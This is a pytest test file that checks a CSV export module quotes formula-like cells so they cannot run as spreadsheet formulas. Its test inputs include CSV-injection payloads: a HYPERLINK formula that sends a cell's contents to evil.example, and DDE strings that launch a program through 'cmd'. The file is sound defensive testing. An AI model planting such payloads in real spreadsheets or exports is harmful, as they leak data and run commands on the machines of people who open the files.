"""Formula-looking CSV cells are made inert; only whole numbers and phone numbers are exempt
(issue 8: ``=1+HYPERLINK(...)`` and the like passed because their second character is a
digit)."""

from __future__ import annotations

import io

import pytest

from carebiz.export.csv_format import inert, write_csv
from carebiz.export.table import Column, Table


@pytest.mark.parametrize("value", [
    '=1+HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=2+5+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@1+SUM(1,1)",
    "+1+1",
    "=1",
    "-2-3",
    "+86 138 0013 8000+cmd|x",
    "=SUM(A1:A2)",
    "+A1",
    "-A1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=",
    "-",
])
def test_formulas_are_quoted(value: str) -> None:
    assert inert(value) == "'" + value


@pytest.mark.parametrize("value", [
    "-12.5", "-5", "+86", "-0.5", "+12", "-1,234.56",
    "+8613800138000", "+86 138 0013 8000", "+86-138-0013-8000", "+1 (415) 555-0100",
    "-1e3", "-1e-05", "Wang Wei", "1+1", "a=b", "",
])
def test_numbers_phones_and_plain_text_stay(value: str) -> None:
    assert inert(value) == value


def test_non_text_values_stay() -> None:
    assert inert(-5) == -5
    assert inert(None) is None


def test_the_writer_uses_the_rule_for_cells_and_filters() -> None:
    table = Table(title="t", columns=[Column("a", "A")], filters=["=1+1"],
                  rows=[["=1+HYPERLINK(\"x\")"], ["-12.5"], ["+8613800138000"]])
    out = io.BytesIO()
    write_csv(table, out, bom=False)
    text = out.getvalue().decode()
    assert "'=1+1" in text
    assert "'=1+HYPERLINK" in text
    assert "\n-12.5" in text.replace("\r\n", "\n")
    assert "\n+8613800138000" in text.replace("\r\n", "\n")
